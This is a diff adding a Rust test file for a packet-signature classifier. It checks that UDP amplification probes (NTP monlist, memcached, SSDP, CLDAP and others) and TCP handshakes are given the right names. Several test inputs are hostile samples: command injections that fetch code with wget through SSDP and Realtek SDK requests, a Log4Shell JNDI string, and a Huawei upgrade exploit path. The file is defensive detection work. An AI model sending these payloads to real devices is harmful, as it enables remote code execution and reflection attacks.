@@ -1,1 +1,223 @@
+//! Payloads and the signatures that name them.
 
+use super::*;
+
+fn udp_name(source_port: u16, destination_port: u16, bytes: &[u8]) -> Option<&'static str> {
+    let payload = Payload {
+        bytes,
+        source_port,
+        destination_port,
+    };
+    udp(&payload).map(|signature| signature.name)
+}
+
+fn check_request(destination_port: u16, bytes: &[u8], name: &str) {
+    assert_eq!(
+        udp_name(40000, destination_port, bytes),
+        Some(name),
+        "to {destination_port}: {bytes:02x?}"
+    );
+}
+
+fn check_reply(source_port: u16, bytes: &[u8], name: &str) {
+    assert_eq!(
+        udp_name(source_port, 40000, bytes),
+        Some(name),
+        "from {source_port}: {bytes:02x?}"
+    );
+}
+
+fn padded(start: &[u8], length: usize) -> Vec<u8> {
+    let mut bytes = start.to_vec();
+    bytes.resize(length, 0);
+    bytes
+}
+
+const SNMP_GET_BULK: &[u8] = &[
+    0x30, 0x26, 2, 1, 1, 4, 6, b'p', b'u', b'b', b'l', b'i', b'c', 0xa5, 0x19, 2, 4, 1, 2, 3, 4, 2,
+    1, 0, 2, 1, 10, 0x30, 0x0b, 0x30, 9, 6, 5, 0x2b, 6, 1, 2, 1, 5, 0,
+];
+
+#[test]
+fn amplifier_requests_are_named() {
+    let dns = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x03isc\x03org\0\0\xff\0\x01";
+    check_request(53, dns, "dns-query");
+    check_request(5353, dns, "mdns-query");
+    check_request(123, &[0x17, 0, 3, 0x2a, 0, 0, 0, 0], "ntp-monlist");
+    check_request(123, &[0x17, 0, 3, 0x10, 0, 0, 0, 0], "ntp-private");
+    check_request(123, &[0x16, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0], "ntp-readvar");
+    check_request(123, &padded(&[0xe3], 48), "ntp-client");
+    check_request(
+        1900,
+        b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n",
+        "ssdp-search",
+    );
+    check_request(161, SNMP_GET_BULK, "snmp-getbulk");
+    check_request(
+        389,
+        &[0x30, 0x25, 2, 1, 1, 0x63, 0x20, 4, 0],
+        "cldap-search",
+    );
+    check_request(11211, b"\0\x01\0\0\0\x01\0\0stats\r\n", "memcached");
+    check_request(19, b"\n", "chargen");
+    check_request(17, b"\n", "qotd");
+    check_request(
+        3702,
+        b"<?xml version=\"1.0\"?><e:Envelope><d:Probe/></e:Envelope>",
+        "ws-discovery",
+    );
+    check_request(5683, b"\x40\x01\x7d\x70\xbb.well-known\x04core", "coap-get");
+    check_request(
+        3478,
+        &padded(&[0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42], 20),
+        "stun-binding",
+    );
+    check_request(3283, &[0, 0x14, 0, 1, 3], "apple-remote-desktop");
+    check_request(69, b"\0\x01a\0octet\0", "tftp-read");
+    check_request(1434, &[2], "mssql-browser");
+    check_request(
+        3389,
+        &padded(&[0xff, 0xff, 0xff, 0xff, 0, 0x40, 0, 1], 1232),
+        "rdp-udp-syn",
+    );
+    check_request(27960, b"\xff\xff\xff\xffgetstatus\n", "quake-status");
+    check_request(
+        27015,
+        b"\xff\xff\xff\xffTSource Engine Query\0",
+        "source-query",
+    );
+    check_request(520, &padded(&[1, 1, 0, 0], 24), "rip-request");
+    check_request(1194, &padded(&[0x38], 14), "openvpn-reset");
+    let mut rpc = vec![1, 2, 3, 4, 0, 0, 0, 0, 0, 0, 0, 2, 0, 1, 0x86, 0xa0];
+    rpc.resize(40, 0);
+    check_request(111, &rpc, "portmapper");
+    let mut ike = vec![7; 8];
+    ike.extend([0; 8]);
+    ike.extend([0x21, 0x20, 34, 8, 0, 0, 0, 0, 0, 0, 0, 28]);
+    check_request(500, &ike, "ike-init");
+    ike.splice(0..0, [0; 4]);
+    check_request(4500, &ike, "ike-init-nat");
+    let netbios =
+        b"\x80\xf0\0\x10\0\x01\0\0\0\0\0\0 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0\0\x21\0\x01";
+    check_request(137, netbios, "netbios-name");
+    check_request(
+        47808,
+        &[
+            0x81, 0x0a, 0, 0x11, 1, 4, 0, 5, 1, 0x0c, 0x0c, 2, 0x3f, 0xff, 0xff, 0x19, 0x4b,
+        ],
+        "bacnet",
+    );
+}
+
+#[test]
+fn replies_are_named_and_never_called_requests() {
+    check_reply(53, b"\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0", "dns-response");
+    check_reply(123, &padded(&[0x24], 48), "ntp-server");
+    check_reply(
+        123,
+        &[0xd7, 0, 3, 0x2a, 0, 1, 0, 72],
+        "ntp-private-response",
+    );
+    check_reply(
+        1900,
+        b"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n",
+        "ssdp-response",
+    );
+    check_reply(5060, b"SIP/2.0 200 OK\r\n", "sip-status");
+    let mut response = SNMP_GET_BULK.to_vec();
+    response[13] = 0xa2;
+    check_reply(161, &response, "snmp-response");
+    check_reply(
+        11211,
+        b"\0\x01\0\0\0\x02\0\0STAT pid 1\r\n",
+        "memcached-response",
+    );
+    check_reply(
+        389,
+        &[0x30, 0x84, 0, 0, 0, 9, 2, 1, 1, 0x64, 0x84],
+        "cldap-response",
+    );
+}
+
+#[test]
+fn an_exploit_comes_before_the_request_it_hides_in() {
+    let injected = b"M-SEARCH * HTTP/1.1\r\nST: uuid:`wget http://x/y`\r\n";
+    check_request(1900, injected, "ssdp-command");
+    check_request(9034, b"orf;cd /tmp; wget http://x", "realtek-sdk-command");
+}
+
+#[test]
+fn ports_matter_by_all_their_bits() {
+    assert_eq!(
+        udp_name(40000, 53 + 256, b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0"),
+        None
+    );
+    assert_eq!(udp_name(40000, 53, b""), None);
+}
+
+#[test]
+fn requests_in_segments_are_named() {
+    for (bytes, name) in [
+        (&b"GET / HTTP/1.1\r\n"[..], "http-request"),
+        (b"\x16\x03\x01\x00\x80\x01\x00", "tls-client-hello"),
+        (b"SSH-2.0-Go\r\n", "ssh-banner"),
+        (b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0", "rdp-connect"),
+        (b"\x03\0\0\x16\x11\xe0\0\0\0\0\0", "s7-connect"),
+        (b"\0\0\0\x45\xffSMBr", "smb-negotiate"),
+        (b"\x13BitTorrent protocol", "bittorrent-handshake"),
+        (b"OPTIONS rtsp://1.2.3.4 RTSP/1.0\r\n", "rtsp-request"),
+        (b"GET /?x=${jndi:ldap://a/b} HTTP/1.1\r\n", "log4shell"),
+        (
+            b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n",
+            "huawei-device-upgrade",
+        ),
+    ] {
+        let payload = Payload {
+            bytes,
+            source_port: 1,
+            destination_port: 2,
+        };
+        assert_eq!(tcp(&payload).map(|row| row.name), Some(name));
+    }
+}
+
+#[test]
+fn every_signature_has_a_name_and_a_source() {
+    for (rows, kind) in [(&UDP[..], "UDP"), (&TCP[..], "TCP")] {
+        for (index, row) in rows.iter().enumerate() {
+            assert!(!row.source.is_empty(), "{}", row.name);
+            assert!(
+                rows[..index].iter().all(|other| other.name != row.name),
+                "{kind} {}",
+                row.name
+            );
+        }
+    }
+}
+
+proptest::proptest! {
+    #[test]
+    fn no_payload_panics(
+        bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..64),
+        row in 0..UDP.len(),
+        port in proptest::prelude::any::<u16>(),
+    ) {
+        let pick = |ports: Ports| match ports {
+            Ports::Any => (port, port),
+            Ports::To(ports) => (port, ports[0]),
+            Ports::From(ports) => (ports[0], port),
+        };
+        let mut bytes = bytes;
+        if let (Some(first), Some(&start)) = (bytes.first_mut(), UDP[row].first.first()) {
+            *first = start;
+        }
+        let (source_port, destination_port) = pick(UDP[row].ports);
+        let payload = Payload { bytes: &bytes, source_port, destination_port };
+        if !bytes.is_empty() {
+            for row in UDP.iter().chain(&TCP) {
+                let _ = (row.test)(&payload);
+            }
+        }
+        let _ = (udp(&payload), tcp(&payload));
+    }
+}
